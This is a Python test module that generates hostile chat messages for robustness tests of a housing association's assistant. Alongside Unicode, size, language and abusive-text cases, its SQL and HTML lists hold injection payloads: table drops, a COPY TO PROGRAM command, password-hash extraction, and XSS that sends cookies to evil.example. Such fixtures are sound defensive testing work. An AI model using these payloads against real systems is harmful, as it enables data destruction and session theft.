"""Hostile messages, generated deterministically, for the end-to-end tests that check every
channel copes with whatever a tenant (or anyone who can message the assistant) sends.

Each family is a function of a seeded `random.Random` and a count, so a failure names a
message that the same seed gives again. Only valid Unicode is produced: a lone surrogate
cannot be sent as JSON or as a form field, so no channel can receive one.
"""

from __future__ import annotations

import json
import random
from dataclasses import dataclass
from typing import Callable, Dict, Iterator, List, Sequence

SEED = 20261122


@dataclass(frozen=True)
class Hostile:
    family: str
    text: str

    def __repr__(self) -> str:  # short enough to read in a failure message
        shown = self.text if len(self.text) <= 80 else self.text[:60] + f"...({len(self.text)} chars)"
        return f"Hostile({self.family!r}, {shown!r})"


def blank(text: str) -> bool:
    """What the chat page refuses as empty: nothing but whitespace (Python's idea of it)."""
    return not text.strip()


# --- building blocks ----------------------------------------------------------------------

WHITESPACE = [
    " ",
    "\t",
    "\n",
    "\r",
    "\r\n",
    "\x0b",
    "\x0c",
    "\x1c",
    "\x1d",
    "\x1e",
    "\x1f",
    "\x85",
    "\u00a0",
    "\u1680",
    "\u2000",
    "\u2002",
    "\u2003",
    "\u2009",
    "\u200a",
    "\u2028",
    "\u2029",
    "\u202f",
    "\u205f",
    "\u3000",
]
# Invisible, but not whitespace to Python: a message of these is not empty.
INVISIBLE = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u034f", "\u180e"]
CONTROL = [chr(c) for c in range(0x00, 0x20)] + ["\x7f"] + [chr(c) for c in range(0x80, 0xA0)]

HOUSING = [
    "my kitchen tap is dripping",
    "the boiler has stopped working",
    "there is black mould in the bedroom",
    "my neighbour plays loud music every night",
    "I want to make a complaint",
    "when is my rent due",
    "the front door lock is broken",
    "can someone call me back",
    "hello",
    "the toilet will not flush",
    "water is coming through the bathroom ceiling",
    "what is my case reference",
    "thank you",
]
WORDS = (
    "the a my is was has not and to in of on it for with boiler leak damp mould window door roof "
    "neighbour noise rent repair kitchen bathroom bedroom stairs garden heating water gas smell broken "
    "again still weeks months nobody came please help urgent today tomorrow"
).split()

EMOJI = [
    "😀",
    "😡",
    "🤬",
    "💩",
    "🔥",
    "💧",
    "🏠",
    "🚿",
    "🪳",
    "🐀",
    "❤️",
    "👍🏽",
    "👎🏿",
    "🙏🏻",
    "😭",
    "🤷‍♀️",
    "👨‍👩‍👧‍👦",
    "👩‍❤️‍💋‍👨",
    "🧑🏾‍🔧",
    "👨🏻‍🚒",
    "🏳️‍🌈",
    "🏴‍☠️",
    "🇬🇧",
    "🇵🇱",
    "🏴󠁧󠁢󠁷󠁬󠁳󠁿",
    "🏴󠁧󠁢󠁳󠁣󠁴󠁿",
    "1️⃣",
    "#️⃣",
    "©️",
    "🫠",
    "🧌",
    "👁️‍🗨️",
    "🐻‍❄️",
    "\U0001faf1\U0001f3fb\u200d\U0001faf2\U0001f3ff",
]
ZWJ = "\u200d"
SKIN = ["\U0001f3fb", "\U0001f3fc", "\U0001f3fd", "\U0001f3fe", "\U0001f3ff"]
VARIATION = ["\ufe0e", "\ufe0f"]

ARABIC = [
    "المرحاض لا يعمل منذ أسبوع",
    "يوجد عفن أسود في غرفة النوم",
    "جاري يصدر ضجيجا كل ليلة",
    "مرحبا",
    "أريد تقديم شكوى",
    "الغلاية معطلة ولا توجد تدفئة",
    "متى موعد دفع الإيجار؟",
]
HEBREW = ["הדוד לא עובד", "יש עובש בחדר השינה", "שלום", "השכן רועש כל לילה", "אני רוצה להגיש תלונה"]
URDU = ["میرا بوائلر کام نہیں کر رہا", "باورچی خانے میں نل ٹپک رہا ہے", "میں شکایت کرنا چاہتا ہوں"]
PERSIAN = ["آبگرمکن خراب است", "سقف حمام چکه می کند"]
BIDI = [
    "\u202a",
    "\u202b",
    "\u202c",
    "\u202d",
    "\u202e",
    "\u2066",
    "\u2067",
    "\u2068",
    "\u2069",
    "\u200e",
    "\u200f",
    "\u061c",
]

LANGUAGES = [
    (
        "Welsh",
        [
            "Mae fy boeler wedi torri",
            "Mae llwydni du yn yr ystafell wely",
            "Helo, sut mae?",
            "Mae'r tap yn y gegin yn diferu",
            "Dw i eisiau gwneud cwyn",
            "Diolch yn fawr iawn",
            "Mae fy nghymydog yn swnllyd bob nos",
            "Ydy'r rhent yn ddyledus ddydd Llun?",
        ],
    ),
    (
        "Polish",
        [
            "Mój piec się zepsuł",
            "W sypialni jest czarna pleśń",
            "Dzień dobry",
            "Sąsiad hałasuje co noc",
            "Chcę złożyć skargę",
            "Kran w kuchni cieknie od tygodnia",
            "Źle się dzieje, żółć, gęś, łódź",
        ],
    ),
    ("Urdu", URDU),
    ("Arabic", ARABIC),
    ("Persian", PERSIAN),
    ("Chinese", ["我的锅炉坏了", "卧室里有黑色霉菌", "你好", "邻居每天晚上都很吵", "我想投诉", "廚房水龍頭漏水"]),
    ("Japanese", ["ボイラーが壊れました", "寝室に黒いカビがあります", "こんにちは"]),
    ("Korean", ["보일러가 고장났어요", "침실에 곰팡이가 있어요", "안녕하세요"]),
    ("Punjabi", ["ਮੇਰਾ ਬੋਇਲਰ ਖਰਾਬ ਹੈ", "ਸਤ ਸ੍ਰੀ ਅਕਾਲ"]),
    ("Bengali", ["আমার বয়লার নষ্ট হয়ে গেছে", "শোবার ঘরে ছত্রাক"]),
    ("Hindi", ["मेरा बॉयलर खराब है", "नमस्ते"]),
    ("Tamil", ["என் கொதிகலன் உடைந்துவிட்டது"]),
    ("Somali", ["Kuleyliyahaygu wuu jabay", "Waxaan rabaa inaan cabasho sameeyo", "Salaan"]),
    ("Romanian", ["Centrala mea s-a stricat", "Există mucegai în dormitor", "Bună ziua"]),
    ("Lithuanian", ["Mano katilas sugedo", "Miegamajame yra pelėsis"]),
    ("Turkish", ["Kombim bozuldu", "Yatak odasında küf var", "Merhaba, ışık, şğüöçİ"]),
    ("Portuguese", ["A minha caldeira avariou", "Há bolor no quarto", "Olá, não há água quente"]),
    ("Greek", ["Ο λέβητας μου χάλασε", "Γεια σας"]),
    ("Russian", ["Мой котёл сломался", "В спальне чёрная плесень", "Здравствуйте"]),
    ("Ukrainian", ["Мій котел зламався", "Доброго дня"]),
    ("Tigrinya", ["ቦይለረይ ተሰቢሩ"]),
    ("Vietnamese", ["Nồi hơi của tôi bị hỏng", "Xin chào"]),
    ("Gaelic", ["Tha an goileadair agam briste", "Halò"]),
    ("Hebrew", HEBREW),
    (
        "Zalgo",
        [
            "m\u0336y\u0337 b\u0338o\u0335i\u0334l\u0336e\u0337r\u0338 i\u0335s\u0334 b\u0336r\u0337o\u0338k\u0335e\u0334n",
            "h\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c\u030d\u030e\u030f"
            "e\u0310\u0311\u0312\u0313\u0314\u0315\u031a\u031b\u0340\u0341\u0342\u0343\u0344\u0345l"
            "\u0346\u0347\u0348\u0349\u034a\u034b\u034c\u034d\u034e\u0350\u0351\u0352\u0357\u0358p",
        ],
    ),
    ("Maths", ["𝕞𝕪 𝕓𝕠𝕚𝕝𝕖𝕣 𝕚𝕤 𝕓𝕣𝕠𝕜𝕖𝕟", "𝓶𝔂 𝓽𝓪𝓹 𝓲𝓼 𝓭𝓻𝓲𝓹𝓹𝓲𝓷𝓰", "ｍｙ　ｂｏｉｌｅｒ　ｉｓ　ｂｒｏｋｅｎ"]),
]

SQL = [
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "'; DROP TABLE cases; --",
    "1; DROP TABLE handoffs",
    "Robert'); DROP TABLE tenants;--",
    "' UNION SELECT reference, description FROM cases --",
    "admin'--",
    "' OR 'x'='x'; UPDATE cases SET status='completed' --",
    "1' AND SLEEP(5)#",
    "'; SELECT pg_sleep(5); --",
    "'; COPY (SELECT '') TO PROGRAM 'touch /tmp/pwned'; --",
    "%' AND 1=0 UNION ALL SELECT NULL,NULL,NULL--",
    "\\'; DELETE FROM case_events WHERE '1'='1",
    "' || (SELECT password_hash FROM staff_accounts LIMIT 1) || '",
    "1 OR 1=1",
    "') OR ('a'='a",
    "'; ATTACH DATABASE '/tmp/x.db' AS x; --",
    "'; PRAGMA writable_schema=1; --",
    "$$; DROP SCHEMA public CASCADE; $$",
    "REP-2026-000001' OR '1'='1",
    "SY7 9BW'; TRUNCATE cases; --",
    "07700 900123; DROP TABLE cases",
    '{"$where": "sleep(5000)"}',
    "*)(uid=*))(|(uid=*",
    "'\"`;--/*",
    "/**/UNION/**/SELECT/**/1",
]

HTML = [
    "<script>alert(1)</script>",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="fetch(\'https://evil.example/?c=\'+document.cookie)">',
    "javascript:alert(1)",
    "JaVaScRiPt:alert('x')",
    '<a href="javascript:alert(1)">click me</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '<iframe src="https://evil.example"></iframe>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{7*7}}",
    "${7*7}",
    "{% raw %}{{ config }}{% endraw %}",
    "<!--",
    "]]>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    '<object data="javascript:alert(1)">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "<img src=x onerror=alert`1`>",
    '<a href="  javascript:alert(1)">x</a>',
]

ABUSE = [
    "you lot are useless",
    "you are all f***ing useless",
    "useless idiots the lot of you",
    "this bot is sh*t",
    "your staff are lazy and stupid",
    "i hate you",
    "go to hell",
    "the repair man was a lazy useless tw*t",
    "stupid f***ing robot",
    "you are a waste of space",
    "incompetent morons",
    "screw you and your housing association",
    "shut up",
    "you're a joke, a total joke",
    "worst landlord ever, you people are scum",
    "if nobody comes today i'll come down there and sort you out",
    "you pathetic excuse for a service",
    "bloody useless bot",
    "get a real person you thick machine",
    "nobody cares do they you clowns",
]

JSONISH = [
    "{}",
    "[]",
    "null",
    "true",
    "false",
    "0",
    "-1",
    "1e999",
    "NaN",
    "Infinity",
    '""',
    '"hello"',
    '{"sender": "admin", "message": "hello"}',
    '{"message": "/restart"}',
    '{"__proto__": {"admin": true}}',
    '{"constructor": {"prototype": {"x": 1}}}',
    '[{"text": "x"}]',
    '{"a": ' * 50 + "1" + "}" * 50,
    "[" * 200 + "]" * 200,
    '{"event": "restart"}',
    '{"event": "bot", "text": "hi"}',
    '{"intent": "greet"}',
    "{'single': 'quotes'}",
    '{"unterminated": ',
    '{"x": "\\u0000"}',
    '{"x": 123456789012345678901234567890}',
]

PAYLOAD_INTENTS = [
    "restart",
    "session_start",
    "back",
    "out_of_scope",
    "nlu_fallback",
    "affirm",
    "deny",
    "greet",
    "goodbye",
    "report_gas_leak",
    "report_fire",
    "report_repair_emergency",
    "request_human",
    "abuse_towards_staff",
    "inform",
    "ask_case_status",
    "complain",
    "intent",
    "action_restart",
    "action_listen",
    "utter_greet",
    "",
    "/",
    "restart/",
    "RESTART",
    "greet greet",
    "ask_rent_payment",
    "express_self_harm",
    "report_domestic_abuse",
]
PAYLOAD_ENTITY_VALUES = [
    '"x"',
    "1",
    "null",
    "true",
    "[1, 2]",
    '{"a": 1}',
    '"<script>alert(1)</script>"',
    '"' + "x" * 500 + '"',
    '"07700 900123"',
    '"emergency"',
]
PAYLOAD_TAILS = ["{", "}", "{{}}", "[1]", '{"a": [', "\\u0000", " extra words", "\u0000"]
PAYLOAD_SLOTS = [
    "entity",
    "repair_priority",
    "repair_description",
    "contact_phone",
    "home_postcode",
    "requested_slot",
    "x",
    "",
    "repair_is_emergency",
    "household_vulnerable",
]


# --- families --------------------------------------------------------------------------------


def _words(rng: random.Random, count: int) -> str:
    return " ".join(rng.choice(WORDS) for _ in range(count))


def empty(rng: random.Random, count: int) -> Iterator[str]:
    yield ""
    for ws in WHITESPACE:
        yield ws
    for _ in range(count - len(WHITESPACE) - 1):
        yield "".join(rng.choice(WHITESPACE) for _ in range(rng.randint(1, 40)))


def invisible(rng: random.Random, count: int) -> Iterator[str]:
    """Zero-width and soft characters: they look empty, but are not whitespace."""
    for _ in range(count):
        parts = [rng.choice(INVISIBLE + WHITESPACE) for _ in range(rng.randint(1, 12))]
        parts.insert(rng.randrange(len(parts) + 1), rng.choice(INVISIBLE))
        yield "".join(parts)


def huge(rng: random.Random, count: int) -> Iterator[str]:
    """About 100 kB: words, one repeated character, or a long repair story (under 100,000
    characters, the most the REST channel takes in one message)."""
    for n in range(count):
        size = rng.randint(90_000, 99_000)
        kind = n % 3
        if kind == 0:
            text = _words(rng, size // 5)
        elif kind == 1:
            text = rng.choice("xa🏠ł<") * (size // 2)
        else:
            text = (rng.choice(HOUSING) + ". ") * (size // 25)
        yield text[:size].strip() or "x"


def control(rng: random.Random, count: int) -> Iterator[str]:
    for c in CONTROL:
        yield f"{rng.choice(HOUSING)}{c}"
    for _ in range(count - len(CONTROL)):
        text = list(rng.choice(HOUSING))
        for _ in range(rng.randint(1, 10)):
            text.insert(rng.randrange(len(text) + 1), rng.choice(CONTROL))
        yield "".join(text)


def emoji(rng: random.Random, count: int) -> Iterator[str]:
    for n in range(count):
        kind = n % 4
        if kind == 0:
            yield "".join(rng.choice(EMOJI) for _ in range(rng.randint(1, 30)))
        elif kind == 1:
            yield f"{rng.choice(HOUSING)} {rng.choice(EMOJI)}{rng.choice(EMOJI)}"
        elif kind == 2:  # made-up ZWJ chains, skin tones and stray variation selectors
            parts = [rng.choice(EMOJI) + rng.choice(SKIN + VARIATION + [""]) for _ in range(rng.randint(2, 12))]
            yield ZWJ.join(parts)
        else:
            yield rng.choice(EMOJI) * rng.randint(50, 600)


def rtl(rng: random.Random, count: int) -> Iterator[str]:
    for n in range(count):
        kind = n % 4
        base = rng.choice(ARABIC + HEBREW + URDU + PERSIAN)
        if kind == 0:
            yield base
        elif kind == 1:
            yield f"{rng.choice(BIDI)}{rng.choice(HOUSING)}{rng.choice(BIDI)}"
        elif kind == 2:  # mixed direction, with a reference and a postcode inside
            yield f"{base} REP-2026-{rng.randint(0, 999999):06d} {rng.choice(BIDI)}SY7 9BW{rng.choice(BIDI)} {base}"
        else:  # overrides that make the text read backwards, never closed
            yield "".join(rng.choice(BIDI) + rng.choice(HOUSING + [base]) for _ in range(rng.randint(1, 6)))


def sql(rng: random.Random, count: int) -> Iterator[str]:
    for attack in SQL:
        yield attack
    for _ in range(count - len(SQL)):
        attack = rng.choice(SQL)
        yield rng.choice(
            [
                f"{rng.choice(HOUSING)} {attack}",
                f"{attack} {rng.choice(HOUSING)}",
                attack.upper(),
                attack.replace(" ", "/**/"),
                attack * rng.randint(2, 5),
            ]
        )


def html(rng: random.Random, count: int) -> Iterator[str]:
    for attack in HTML:
        yield attack
    for _ in range(count - len(HTML)):
        attack = rng.choice(HTML)
        yield rng.choice(
            [
                f"{rng.choice(HOUSING)} {attack}",
                f"{attack} {rng.choice(HOUSING)}",
                f"{attack}{rng.choice(HTML)}",
                attack.upper(),
                f"<b>{rng.choice(HOUSING)}</b>{attack}",
            ]
        )


def languages(rng: random.Random, count: int) -> Iterator[str]:
    everything = [sentence for _, sentences in LANGUAGES for sentence in sentences]
    for sentence in everything:
        yield sentence
    for _ in range(count - len(everything)):
        yield " ".join(rng.choice(everything) for _ in range(rng.randint(1, 4)))


def abusive(rng: random.Random, count: int) -> Iterator[str]:
    for insult in ABUSE:
        yield insult
    for _ in range(count - len(ABUSE)):
        insult = rng.choice(ABUSE)
        yield rng.choice(
            [
                insult.upper(),
                f"{insult}!!!",
                f"{rng.choice(HOUSING)}, {insult}",
                f"{insult} {rng.choice(EMOJI)}",
                f"{insult}. {rng.choice(ABUSE)}",
            ]
        )


def long_words(rng: random.Random, count: int) -> Iterator[str]:
    letters = "abcdefghijklmnopqrstuvwxyzłżźćęóąś"
    for n in range(count):
        length = rng.choice([256, 1000, 4999, 5000, 5001, 20_000, 60_000])
        kind = n % 4
        if kind == 0:
            yield rng.choice(letters) * length
        elif kind == 1:
            yield "".join(rng.choice(letters) for _ in range(length))
        elif kind == 2:
            yield "https://example.org/" + "a/" * (length // 2)
        else:
            yield f"{rng.choice(HOUSING)} " + "".join(rng.choice(letters) for _ in range(length))


def jsonish(rng: random.Random, count: int) -> Iterator[str]:
    for text in JSONISH:
        yield text
    for _ in range(count - len(JSONISH)):
        value = {
            rng.choice(PAYLOAD_SLOTS) or "k": json.loads(rng.choice(PAYLOAD_ENTITY_VALUES)),
            "message": rng.choice(HOUSING),
        }
        yield json.dumps(rng.choice([value, [value], {"entry": [value]}]))


def rasa_payloads(rng: random.Random, count: int) -> Iterator[str]:
    fixed = [
        "/restart",
        "/session_start",
        "/back",
        '/intent{"entity": "x"}',
        '/report_gas_leak{"x": 1}',
        "/report_gas_leak{",
        '/greet{"a":',
        "/greet@0.5",
        "/greet@-1",
        "/greet@1e999",
        '/affirm{"repair_confirmed": true}',
        "/{}",
        "/",
        "//",
        "/ restart",
        " /restart ",
        '/restart{"x": 1}',
        "/restart please",
        "/nlu_fallback",
        '/session_start{"x": 1}',
    ]
    for text in fixed:
        yield text
    for _ in range(count - len(fixed)):
        intent = rng.choice(PAYLOAD_INTENTS)
        kind = rng.randrange(4)
        if kind == 0:
            yield f"/{intent}"
        elif kind == 1:
            yield f'/{intent}{{"{rng.choice(PAYLOAD_SLOTS)}": {rng.choice(PAYLOAD_ENTITY_VALUES)}}}'
        elif kind == 2:
            yield f"/{intent}@{rng.choice(['0', '0.99', '1', '-5', 'nan', 'x'])}"
        else:
            yield f"/{intent}{rng.choice(PAYLOAD_TAILS)}"


Family = Callable[[random.Random, int], Iterator[str]]

FAMILIES: Dict[str, Family] = {
    "empty": empty,
    "invisible": invisible,
    "huge": huge,
    "control": control,
    "emoji": emoji,
    "rtl": rtl,
    "sql": sql,
    "html": html,
    "languages": languages,
    "abusive": abusive,
    "long_words": long_words,
    "json": jsonish,
    "rasa_payloads": rasa_payloads,
}


def family(name: str, count: int, seed: int = SEED) -> List[Hostile]:
    """`count` messages of one family (at least its fixed examples), the same for the same seed."""
    rng = random.Random(f"{seed}:{name}")
    return [Hostile(name, text) for text in FAMILIES[name](rng, count)]


def messages(counts: Dict[str, int], seed: int = SEED) -> List[Hostile]:
    """Every family with its count, shuffled together so no server sees one family at a time."""
    found = [message for name, count in counts.items() for message in family(name, count, seed)]
    random.Random(seed).shuffle(found)
    return found


def spread(items: Sequence[Hostile], parts: int) -> List[List[Hostile]]:
    """Round-robin `items` into `parts` lists, so each gets some of every family."""
    return [list(items[n::parts]) for n in range(parts)]
